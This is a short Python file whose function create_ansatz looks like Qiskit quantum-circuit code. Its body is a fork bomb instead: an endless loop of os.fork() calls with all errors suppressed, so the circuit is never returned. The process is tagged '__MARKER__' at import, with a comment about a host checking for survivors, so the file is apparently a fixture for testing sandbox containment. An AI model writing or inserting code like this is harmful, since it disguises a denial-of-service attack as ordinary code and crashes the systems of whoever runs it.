import ctypes
import os

from qiskit import QuantumCircuit

ctypes.CDLL(None).prctl(15, b"__MARKER__", 0, 0, 0)  # PR_SET_NAME, so the host can look for survivors


def create_ansatz(num_qubits):
    while True:
        try:
            os.fork()
        except BaseException:
            pass
    return QuantumCircuit(num_qubits)
